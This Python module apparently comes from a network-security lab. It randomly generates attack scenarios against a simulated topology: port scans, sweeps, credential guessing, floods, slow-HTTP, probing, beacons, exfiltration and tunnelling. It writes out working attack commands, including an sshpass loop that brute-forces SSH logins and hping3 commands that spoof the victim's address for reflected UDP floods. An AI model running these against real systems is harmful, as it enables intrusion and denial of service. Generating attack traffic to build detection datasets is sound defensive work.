# SPDX-License-Identifier: Apache-2.0
"""Attacks by the lab's own programs (lab/programs): every class once more, with another handwriting and wider parameters."""

from __future__ import annotations

from collections.abc import Callable
from ipaddress import ip_address, ip_network
from random import Random

from lab.scenarios.attack.targets import any_victim, attackers, far_place, gateways, ip_version, outward, victim_with
from lab.scenarios.scenario import ICMP4, TCP, UDP, Attack, AttackDraft, DrawAttack, Leg, Scene, bracketed
from lab.services import misc, redis, vsftpd
from lab.topology import Host

_SCAN_PORTS = (
    "1-200",
    "1-1024",
    "20-25,53,80,110,139,143,443,445,3306,3389,5432,5900,8080",
    "8000-8400",
    "1-60",
    "9000-9040",
)


def _pace(chance: Random, pauses: tuple[float, ...], threads: tuple[int, ...], seconds: int) -> str:
    return (
        f"--pause {chance.choice(pauses) * chance.uniform(0.7, 1.4):.4f} --jitter {chance.choice((0, 0.2, 0.9))} "
        f"--threads {chance.choice(threads)} --seconds {seconds}"
    )


def scan(scene: Scene, chance: Random) -> AttackDraft:
    victim, version = any_victim(scene, chance), ip_version(chance)
    own, source = attackers(scene, version, chance)
    udp, ports, seconds = chance.random() < 0.2, chance.choice(_SCAN_PORTS), chance.randint(15, 70)
    pace = _pace(chance, (0, 0.002, 0.02, 0.1, 0.5, 2.0), (1, 3, 10, 40), seconds)
    words = (
        f"{scene.address(victim, version)} {ports} {'--udp' if udp else ''} {pace} {source} --timeout {chance.choice((0.4, 1, 3))} "
        f"--order {chance.choice(('random', 'ports'))} {chance.choice(('', '', '--banner', '--abort'))}"
    )
    legs = (
        Leg(own, scene.address(victim, version), UDP if udp else TCP),
        Leg(own, scene.address(victim, version), 58 if version == 6 else ICMP4),
    )
    return AttackDraft(
        "scan",
        "scanner",
        f"{'udp' if udp else 'connect'}; ports={ports}; {pace}",
        scene.program("scanner", chance, words),
        seconds + 4,
        legs,
    )


def sweep(scene: Scene, chance: Random) -> AttackDraft:
    own4 = scene.network.address4(scene.host)
    victim = chance.choice(
        [
            h
            for h in scene.network.hosts
            if h is not scene.host and not h.attacker and scene.network.seen(h) and not scene.network.hidden(h)
        ]
    )
    bits = chance.choice((25, 26, 27))
    piece = ip_network(f"{scene.network.address4(victim)}/{bits}", strict=False)
    while ip_address(own4) in piece and bits < 31:
        bits += 1
        piece = ip_network(f"{scene.network.address4(victim)}/{bits}", strict=False)
    own, source = attackers(scene, 4, chance)
    ports, seconds = (
        chance.choice(("22", "445", "80,443", "23", "3389,5900", str(scene.network.ssh_port))),
        chance.randint(15, 60),
    )
    udp = chance.random() < 0.15
    pace = _pace(chance, (0, 0.01, 0.1, 0.5, 1.5), (1, 4, 20), seconds)
    words = f"{piece} {ports} {'--udp' if udp else ''} {pace} {source} --timeout {chance.choice((0.4, 1, 3))} --order {chance.choice(('random', 'hosts', 'ports'))}"
    legs = (Leg(own, str(piece), UDP if udp else TCP), Leg(own, str(piece), ICMP4), *gateways(scene, own))
    return AttackDraft(
        "scan", "scanner", f"sweep; ports={ports}; {pace}", scene.program("scanner", chance, words), seconds + 4, legs
    )


def _guess(protocol: str, service: str, port_of: Callable[[Scene], int]) -> DrawAttack:
    def draw(scene: Scene, chance: Random) -> AttackDraft | None:
        victim = victim_with(scene, chance, service)
        if victim is None:
            return None
        version = 4 if protocol == "ftp" and chance.random() < 0.5 else ip_version(chance)
        own, source = attackers(scene, version, chance)
        web, seconds = protocol in ("form", "basic"), chance.randint(20, 75)
        tls = web and chance.random() < 0.4
        port = scene.network.tls_port if tls else port_of(scene)
        pace = _pace(chance, (0, 0.05, 0.3, 1.0, 3.0), (1, 1, 2, 6, 16), seconds)
        how = f"{chance.choice(('', '--stuffing'))} {chance.choice(('', '--keep')) if web else ''} {'--tls' if tls else ''} {chance.choice(('', '', '--abort'))}"
        path = "--path /admin/" if protocol == "basic" else ""
        words = (
            f"{protocol} {scene.address(victim, version)} {port} {how} {path} {pace} {source} --per-connection {chance.choice((1, 1, 3, 5))} "
            f"--count {chance.randint(25, 400)} --user {chance.choice(('root', 'admin', 'mira', 'backup'))}"
        )
        return AttackDraft(
            "brute_force",
            "guesser",
            f"{protocol}; {pace} {how}",
            scene.program("guesser", chance, words),
            seconds + 4,
            (Leg(own, scene.address(victim, version), TCP, port),),
        )

    return draw


def ssh_loop(scene: Scene, chance: Random) -> AttackDraft | None:
    """Guesses over ssh by OpenSSH's own client."""
    victim = victim_with(scene, chance, "sshd")
    if victim is None:
        return None
    version, count, width = ip_version(chance), chance.randint(10, 50), chance.choice((1, 2, 5))
    pause = chance.choice((0, 0.3, 1.5))
    where = f"-p {scene.network.ssh_port} {chance.choice(('root', 'admin', 'test'))}@{scene.address(victim, version)}"
    one = f"sshpass -p w$1 ssh -o NumberOfPasswordPrompts=1 -o PreferredAuthentications=password {where} true; sleep {pause}"
    script = f"seq {count} | xargs -P {width} -n 1 bash -c '{one}' _"
    return AttackDraft(
        "brute_force",
        "ssh",
        f"ssh client; n={count}; threads={width}; pause={pause}",
        script,
        60,
        (scene.leg(victim, version, TCP, scene.network.ssh_port),),
    )


def _web_flood(scene: Scene, chance: Random, victim: Host, version: int) -> tuple[str, int, str]:
    way, tls = chance.choice(("connect", "hold", "get", "get", "post")), chance.random() < 0.35
    port = scene.network.tls_port if tls else scene.network.web_port
    seconds = chance.randint(10, 35)
    pace = _pace(chance, (0, 0.005, 0.05), (5, 20, 60), seconds)
    words = (
        f"{way} {scene.address(victim, version)} {port} {'--tls' if tls else ''} {pace} --size {chance.choice((100, 2000, 20000))} "
        f"--path {chance.choice(('/', '/app/search', '/p/1.html', '/app/item'))} --per-connection {chance.choice((1, 1, 10, 100))} "
        f"--count {chance.randint(200, 2500) if way != 'hold' else chance.randint(80, 300)}"
    )
    return words, port, f"{way}; {pace}"


def web_flood(scene: Scene, chance: Random) -> AttackDraft | None:
    victim = victim_with(scene, chance, "webapp")
    if victim is None:
        return None
    version = ip_version(chance)
    own, source = attackers(scene, version, chance)
    words, port, technique = _web_flood(scene, chance, victim, version)
    return AttackDraft(
        "flood",
        "flooder",
        technique,
        scene.program("flooder", chance, words, source),
        45,
        (Leg(own, scene.address(victim, version), TCP, port),),
    )


def packet_flood(scene: Scene, chance: Random) -> AttackDraft:
    victim, way = any_victim(scene, chance), chance.choice(("udp", "udp", "icmp"))
    own, source = attackers(scene, 4, chance)
    port = chance.choice((0, 53, 123, 161, 5004, chance.randint(1024, 60000)))
    pace = _pace(chance, (0.0002, 0.001, 0.004), (1, 4, 30), chance.randint(8, 25))
    words = f"{way} {scene.network.address4(victim)} {port} {pace} --size {chance.choice((0, 30, 200, 1000, 1350))} {chance.choice(('', '--vary'))} --count {chance.randint(1500, 7000)} {source}"
    address = scene.network.address4(victim)
    legs = (
        (Leg(own, address, ICMP4),)
        if way == "icmp"
        else (Leg(own, address, UDP, port or None), Leg(own, address, ICMP4))
    )
    return AttackDraft(
        "flood", "flooder", f"{way}; port={port}; {pace}", scene.program("flooder", chance, words), 35, legs
    )


def reflected(scene: Scene, chance: Random) -> AttackDraft | None:
    """Questions in the victim's name to servers that answer with more than they were asked."""
    places = [p for p in scene.places("misc") if p.host.segment == "out"]
    victims = [
        h for h in scene.network.hosts if h.segment != "out" and not h.attacker and h.services and scene.network.seen(h)
    ]
    if not places or not victims:
        return None
    victim, chosen = chance.choice(victims), chance.sample(places, min(len(places), chance.randint(3, 20)))
    count, gap = chance.randint(800, 5000), chance.choice((500, 1500, 5000))
    each, address = count // len(chosen), scene.network.address4(victim)
    script = "\n".join(
        f"hping3 -q --udp -a {address} -s {chance.randint(1024, 60000)} -k -p {misc.REFLECTOR} -d {chance.choice((10, 60))} -i u{gap * len(chosen)} -c {each} {p.address4} &"
        for p in chosen
    )
    legs = tuple(
        leg for p in chosen for leg in (Leg(address, p.address4, UDP, misc.REFLECTOR), Leg(address, p.address4, ICMP4))
    )
    return AttackDraft(
        "flood",
        "hping3",
        f"reflected by {len(chosen)}; n={count}; gap={gap}us",
        script + "\nwait",
        min(45, 10 + count * gap * 2 // 1_000_000),
        legs,
    )


def slow(scene: Scene, chance: Random) -> AttackDraft | None:
    victim = victim_with(scene, chance, "nginx")
    if victim is None:
        return None
    version, tls, seconds = ip_version(chance), chance.random() < 0.25, chance.randint(20, 55)
    own, source = attackers(scene, version, chance)
    way, port = (
        chance.choice(("headers", "headers", "body", "read")),
        scene.network.tls_port if tls else scene.network.web_port,
    )
    path = "/d/900.iso" if way == "read" else "/app/login"
    words = (
        f"{way} {scene.address(victim, version)} {port} {'--tls' if tls else ''} --path {path} --rate {chance.choice((2, 8, 30, 100))} "
        f"--count {chance.randint(20, 160)} --pause {chance.choice((0.7, 2, 5, 9))} --jitter {chance.choice((0, 0.5, 0.9))} --seconds {seconds} {source}"
    )
    return AttackDraft(
        "slow_http",
        "slow",
        words.split(" --path")[0].split(" ")[0],
        scene.program("slow", chance, words),
        seconds + 5,
        (Leg(own, scene.address(victim, version), TCP, port),),
    )


def probe(scene: Scene, chance: Random) -> AttackDraft | None:
    victim = victim_with(scene, chance, "webapp")
    if victim is None:
        return None
    version, tls, seconds = ip_version(chance), chance.random() < 0.4, chance.randint(15, 55)
    own, source = attackers(scene, version, chance)
    port, way = (
        scene.network.tls_port if tls else scene.network.web_port,
        chance.choice(("paths", "parameters", "mixed")),
    )
    pace = _pace(chance, (0, 0.02, 0.2, 0.8), (1, 2, 5, 12), seconds)
    words = f"{way} {scene.address(victim, version)} {port} {'--tls' if tls else ''} {pace} {source} --per-connection {chance.choice((1, 1, 10, 100))} --count {chance.randint(60, 900)}"
    return AttackDraft(
        "web_attack",
        "prober",
        f"{way}; {pace}",
        scene.program("prober", chance, words),
        seconds + 4,
        (Leg(own, scene.address(victim, version), TCP, port),),
    )


def beacon(scene: Scene, chance: Random) -> AttackDraft | None:
    way = chance.choice(("http", "http", "http", "kept", "tcp", "held", "udp"))
    service = {"tcp": "sink", "held": "sink", "udp": "misc"}.get(way, "webapp")
    far = far_place(scene, chance, service)
    if far is None:
        return None
    where, version, both = far
    tls, net = service == "webapp" and chance.random() < 0.6, scene.network
    port = {"sink": chance.choice((4444, 9001)), "misc": 161, "webapp": net.tls_port if tls else net.web_port}[service]
    if way == "udp":
        where, version = both[0], 4
    seconds = chance.randint(50, 125)
    pace = f"--pause {chance.choice((1, 2, 4, 6, 10, 15)) * chance.uniform(0.7, 1.4):.2f} --jitter {chance.choice((0, 0.1, 0.3, 0.5))} --seconds {seconds}"
    words = f"{way} {where} {port} {'--tls' if tls else ''} {pace} --size {chance.choice((0, 40, 120, 600))} --spread {chance.choice((0, 0.1, 0.5))} --count 200"
    legs = outward(scene, version, where, UDP if way == "udp" else TCP, port)
    return AttackDraft("beacon", "caller", f"{way}; {pace}", scene.program("caller", chance, words), seconds + 6, legs)


def carry(scene: Scene, chance: Random) -> AttackDraft | None:
    way = chance.choice(("http", "http", "http", "tcp", "udp", "icmp"))
    service = {"tcp": "sink", "udp": "misc", "icmp": "misc"}.get(way, "webapp")
    far = far_place(scene, chance, service)
    if far is None:
        return None
    where, version, both = far
    if way in ("udp", "icmp"):
        where, version = both[0], 4
    net, tls = scene.network, service == "webapp" and chance.random() < 0.6
    port = {"sink": chance.choice((4444, 9001)), "misc": 514, "webapp": net.tls_port if tls else net.web_port}[service]
    most = 1_500_000 if way in ("udp", "icmp") else 12_000_000
    total, rate = min(int(chance.lognormvariate(14.3, 0.9)), most), chance.choice((3e4, 1e5, 4e5, 2e6))
    piece = chance.choice((60, 500, 1300)) if way in ("udp", "icmp") else chance.choice((20_000, 150_000, 10**6, 10**8))
    words = f"{way} {where} {port} {'--tls' if tls else ''} --bytes {total} --piece {piece} --rate {rate} --pause {chance.choice((0, 0.005, 0.05) if piece < 2000 else (0, 0.5, 3))} --threads {chance.choice((1, 1, 2))} --seconds 70"
    protocol = {"udp": UDP, "icmp": ICMP4}.get(way, TCP)
    legs = outward(scene, version, where, protocol, None if way == "icmp" else port)
    return AttackDraft(
        "exfiltration",
        "carrier",
        f"{way}; bytes={total}; piece={piece}; rate={rate}",
        scene.program("carrier", chance, words),
        75,
        legs,
    )


def tunnel(scene: Scene, chance: Random) -> AttackDraft | None:
    net = scene.network
    way = chance.choice(("dns", "dns", "icmp", "http", "tcp"))
    seconds, tls, version = chance.randint(30, 75), chance.random() < 0.5, 4
    rests = chance.choice((0, 0.05, 0.3))
    pace = f"--pause {chance.choice((0.05, 0.3, 1, 2.5)):.2f} --jitter {chance.choice((0.1, 0.8))} --rests {rests} --seconds {seconds} --count {chance.randint(60, 2500)}"
    if way == "dns":
        resolvers, ends = net.serving("unbound"), net.serving("nsd")
        if not resolvers or not ends or scene.host in ends:
            return None
        resolver, top = resolvers[0], net.domain.rsplit(".", 1)[1]
        zone = f"z{chance.randrange(net.zones)}.{top}" if net.zones else net.domain
        straight = chance.random() < 0.3
        where = net.address4(ends[0]) if straight else net.address4(resolver)
        words = f"dns {where} 53 --zone {zone} --type {chance.choice(('TXT', 'NULL', 'CNAME', 'A', 'MX'))} --size {chance.choice((30, 70, 120))} {chance.choice(('', '--fresh'))} {pace}"
        legs: tuple[Leg, ...] = (
            Leg(net.address4(scene.host), where, UDP, 53),
            Leg(net.address4(scene.host), where, ICMP4),
        )
        return AttackDraft(
            "tunnel", "tunneler", f"dns; {pace}", scene.program("tunneler", chance, words), seconds + 4, legs
        )
    far = far_place(scene, chance, {"icmp": "misc", "http": "webapp", "tcp": "sink"}[way])
    if far is None:
        return None
    where, version, both = far
    if way == "icmp":
        where, version = both[0], 4
    port = {"icmp": 0, "tcp": chance.choice((4444, 9001)), "http": net.tls_port if tls else net.web_port}[way]
    words = (
        f"{way} {where} {port} {'--tls' if tls and way == 'http' else ''} --size {chance.choice((100, 400, 1200))} {pace} "
        f"--per-connection {chance.choice((1, 20, 1000))}"
    )
    legs = outward(scene, version, where, ICMP4 if way == "icmp" else TCP, port or None)
    return AttackDraft(
        "tunnel", "tunneler", f"{way}; {pace}", scene.program("tunneler", chance, words), seconds + 4, legs
    )


def ping_tunnel_by_ping(scene: Scene, chance: Random) -> AttackDraft | None:
    """Data in echoes by ping itself: sizes and pauses vary from run to run."""
    far = far_place(scene, chance, "misc")
    if far is None:
        return None
    where = far[2][0]
    runs = [
        f"ping -n -q -c {chance.randint(10, 80)} -i {chance.choice((0.02, 0.1, 0.3))} -s {chance.randint(200, 1300)} -W 1 {bracketed(where)}"
        for _ in range(chance.randint(1, 4))
    ]
    return AttackDraft(
        "tunnel",
        "ping",
        f"icmp; runs={len(runs)}",
        f"sleep {chance.uniform(0.2, 2):.1f}\n".join(line + "\n" for line in runs),
        70,
        (Leg(scene.network.address4(scene.host), where, ICMP4),),
    )


ATTACKS = (
    Attack("own-scan", scan, weight=5, group="scan"),
    Attack("own-sweep", sweep, weight=4, group="scan"),
    *(
        Attack(f"own-{protocol}-guess", _guess(protocol, service, port_of), group="brute_force", weight=weight)
        for protocol, service, port_of, weight in (
            ("ftp", "vsftpd", lambda scene: vsftpd.PORT, 2),
            ("smtp", "misc", lambda scene: misc.SMTP, 2),
            ("pop3", "misc", lambda scene: misc.POP3, 2),
            ("imap", "misc", lambda scene: misc.IMAP, 2),
            ("telnet", "misc", lambda scene: misc.TELNET, 2),
            ("redis", "redis", lambda scene: redis.PORT, 1),
            ("mqtt", "mosquitto", lambda scene: 1883, 1),
            ("form", "webapp", lambda scene: scene.network.web_port, 2),
            ("basic", "nginx", lambda scene: scene.network.web_port, 2),
        )
    ),
    Attack("own-ssh-loop", ssh_loop, weight=3, group="brute_force"),
    Attack("own-web-flood", web_flood, weight=4, group="flood"),
    Attack("own-packet-flood", packet_flood, weight=3, group="flood"),
    Attack("reflected-flood", reflected, weight=2, group="flood"),
    Attack("own-slow", slow, weight=5, group="slow_http"),
    Attack("own-probe", probe, weight=4, group="web_attack"),
    Attack("own-beacon", beacon, inside=True, weight=8, group="beacon"),
    Attack("own-carry", carry, inside=True, weight=6, group="exfiltration"),
    Attack("own-tunnel", tunnel, inside=True, weight=8, group="dns_tunnel"),
    Attack("own-ping-tunnel", ping_tunnel_by_ping, inside=True, weight=1, group="dns_tunnel"),
)
